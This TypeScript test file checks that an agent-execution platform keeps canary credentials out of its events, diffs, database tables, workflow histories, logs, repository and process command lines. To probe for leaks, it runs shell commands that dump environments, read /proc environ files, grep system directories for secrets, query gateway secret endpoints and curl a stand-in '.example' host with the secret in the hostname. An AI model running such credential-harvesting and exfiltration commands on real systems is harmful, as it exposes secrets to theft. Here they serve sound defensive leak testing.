import { randomBytes } from 'node:crypto';
import { readFile, readdir } from 'node:fs/promises';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { Client, Connection } from '@temporalio/client';
import { z } from 'zod';
import { unwrap } from '../../api/client/index.ts';
import { loadOrCreateKeys, loadProjectSecretKeys } from '../../config/keys.ts';
import { statePaths } from '../../config/paths.ts';
import { hitsBelow, hitsIn, hitsInHistories, hitsInTables, type Canaries } from './canaries.ts';
import { databaseUrlOf } from './database.ts';
import { startRawModel, type RawModel } from './model.ts';
import { git } from './repository.ts';
import { TestSystem } from './system.ts';

const Ports = z.object({ temporal: z.number() });

/** A pattern of grep that finds a secret and is not itself one. */
const patternOf = (secret: string) => `'[${secret[0] ?? ''}]${secret.slice(1)}'`;

const secretName = 'CANARY_KEY';

/** A check that has the project's secret and shows it in the ways that come to mind. */
const showingCheck = [
  `test "\${#${secretName}}" -gt 20`,
  `echo "clear $${secretName}"`,
  `echo "failed with $${secretName}" >&2`,
  `printf 'user:%s' "$${secretName}" | base64 -w 0; echo`,
  `printf %.9s "$${secretName}"; sleep 0.2; printf %s "$${secretName}" | tail -c +10; echo`,
  `curl -s -m 5 "https://$${secretName}.example/"`,
  `echo "$${secretName}" > shown.txt`,
  'echo shown',
].join('\n');

/** Shows everything that a program in a workspace can read of its surroundings, and says where a secret is. */
function program(canaries: Canaries): string {
  const patterns = [...canaries.values()].map((secret) => `-e ${patternOf(secret)}`).join(' ');
  return [
    'env',
    'cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline | tr "\\0" "\\n"',
    `grep -rIl ${patterns} /home /tmp /run /etc /var /opt /workspace 2>/dev/null | sed 's/^/secret in /'`,
    // What the supervisor of a place for checks is answered.
    'curl -s --noproxy "*" "$HTTP_PROXY/secrets/checks"; curl -s http://gateway/secrets/checks; echo',
    'echo looked > looked.txt',
    'echo looked-around',
    'exit 0',
  ].join('\n');
}

/** What a full run left, for whoever knows where else to look. */
export interface AfterRun {
  system: TestSystem;
  canaries: Canaries;
}

/**
 * Runs requests on one kind of workspace, whose agent and checks look for every credential that the system knows, and says where else
 * each is searched for. `settings` choose the kind; `more` declares what that kind keeps of its own, which is all of it where `keepsFolders`
 * is false.
 */
export function describeCanaries(
  kind: string,
  settings: () => Record<string, string>,
  more: (after: () => AfterRun) => void,
  { keepsFolders = true } = {},
): void {
  describe(`no secret is anywhere after a full run on ${kind}`, () => declareCanaries(settings, more, keepsFolders));
}

function declareCanaries(settings: () => Record<string, string>, more: (after: () => AfterRun) => void, keepsFolders: boolean): void {
  let system: TestSystem;
  let model: RawModel;
  let canaries: Canaries;
  let repositoryUrl: string;
  let requests: string[];
  let ports: z.infer<typeof Ports>;

  beforeAll(async () => {
    model = await startRawModel('Nothing to do.');
    const projectSecret = `project-canary-${randomBytes(18).toString('hex')}`;
    const modelKey = `sk-canary-${randomBytes(18).toString('hex')}`;
    system = await TestSystem.open({
      ...settings(),
      EXECUTOR_COMMAND: 'exec sh',
      OPENAI_API_KEY: modelKey,
      LLM_UPSTREAM_URL: `${model.origin}/v1`,
    });
    const paths = statePaths(system.stateDir);
    const keys = await loadOrCreateKeys(paths.keys);
    ports = Ports.parse(JSON.parse(await readFile(paths.portsFile, 'utf8')));
    canaries = new Map([
      ['the model key', modelKey],
      ['the start-up token', keys.startupToken],
      ['the service key', keys.serviceKey],
      ['the key of run tokens', keys.runTokenKey],
      ['the key of projects’ secrets', (await loadProjectSecretKeys(paths.keys))[0]],
      ['the secret of the project', projectSecret],
      ['the password of the database', (await readFile(join(paths.keys, 'postgres-password'), 'utf8')).trim()],
      // How every token of a run begins.
      ['a run token', `${Buffer.from('{"alg":"HS256"}').toString('base64url')}.`],
    ]);
    const checks = [{ name: 'show', command: showingCheck }];
    const project = await system.project({ 'README.md': '# sample\n' }, { review: false, checks });
    const at = { path: { projectId: project.projectId, name: secretName } };
    await unwrap(system.client.PUT('/api/projects/{projectId}/secrets/{name}', { params: at, body: { value: projectSecret } }));
    repositoryUrl = project.repositoryUrl;
    const looking = await system.submit(project.projectId, program(canaries), { executor: 'command' });
    await system.reach(looking, 'PATCH_READY');
    const asking = await system.submit(project.projectId, 'say hello');
    await system.reach(asking, 'DONE');
    requests = [looking, asking];
  }, 300_000);

  afterAll(async () => {
    await system?.close();
    await model?.close();
  }, 120_000);

  it('although the model key was used, and the program inside looked everywhere', async () => {
    const text = (await system.events(requests[0] ?? ''))
      .flatMap((event) => (event.type === 'agent.delta' ? [event.data.text] : []))
      .join('');

    expect(model.calls.map(({ authorization }) => authorization)).toContain(`Bearer ${canaries.get('the model key')}`);
    expect(text).toContain('looked-around');
    expect(text).toContain('HTTPS_PROXY=');
    expect(text).toContain('relay-forbidden');
  });

  it('although a check had the secret of its project, and showed it wherever it could', async () => {
    const events = await system.events(requests[0] ?? '');
    const shown = events.flatMap((event) => (event.type === 'exec.output' ? [event.data.text] : [])).join('');
    const refused = events.flatMap((event) => (event.type === 'egress.refused' ? [event.data.host] : []));
    const results = events.flatMap((event) => (event.type === 'exec.completed' ? [event.data.status] : []));

    expect(results).toEqual(['passed']);
    expect(shown).toContain(`clear [secret ${secretName}]\n`);
    expect(shown).toContain(`failed with [secret ${secretName}]\n`);
    expect(shown.split(`[secret ${secretName}]`)).toHaveLength(5);
    expect(refused).toContain(`[secret ${secretName}].example`);
  });

  it('neither in the event stream, the diff nor the workspace', async () => {
    const events = (await Promise.all(requests.map((requestId) => system.events(requestId)))).flat();
    const places = events.flatMap((event) => (event.type === 'agent.delta' ? [...event.data.text.matchAll(/^secret in .*$/gm)] : []));
    const runId = events.find((event) => event.runId !== null)?.runId ?? '';
    const diff = await fetch(`${system.system.apiUrl}/api/runs/${runId}/diff`, {
      headers: { authorization: `Bearer ${system.system.token}` },
    });

    expect(diff.status).toBe(200);
    expect([...hitsIn(canaries, JSON.stringify(events)), ...hitsIn(canaries, await diff.text()), ...places.map(String)]).toEqual([]);
  });

  it('nor in a table or a history', async () => {
    const connection = await Connection.connect({ address: `127.0.0.1:${ports.temporal}` });
    const tables = await hitsInTables(canaries, await databaseUrlOf(system.stateDir));
    const histories = await hitsInHistories(canaries, new Client({ connection }));
    await connection.close();

    expect([...tables.hits, ...histories.hits]).toEqual([]);
    expect(Math.min(tables.rows, histories.events)).toBeGreaterThan(20);
  });

  it('nor in a log, a file of a workspace, the repository or a command line of this machine', async () => {
    const paths = statePaths(system.stateDir);
    const commandLines = await Promise.all(
      (await readdir('/proc'))
        .filter((name) => /^\d+$/.test(name))
        .map((pid) => readFile(`/proc/${pid}/cmdline`, 'latin1').catch(() => '')),
    );
    const history = await git(repositoryUrl, 'log', '--all', '--patch');

    expect([
      ...(await hitsBelow(canaries, paths.logs)),
      ...(keepsFolders ? await hitsBelow(canaries, paths.hosts) : []),
      ...hitsIn(canaries, history),
      // Somebody else's token of the same kind is none of ours.
      ...hitsIn(new Map([...canaries].filter(([name]) => name !== 'a run token')), commandLines.join('\n')),
    ]).toEqual([]);
  });

  more(() => ({ system, canaries }));
}
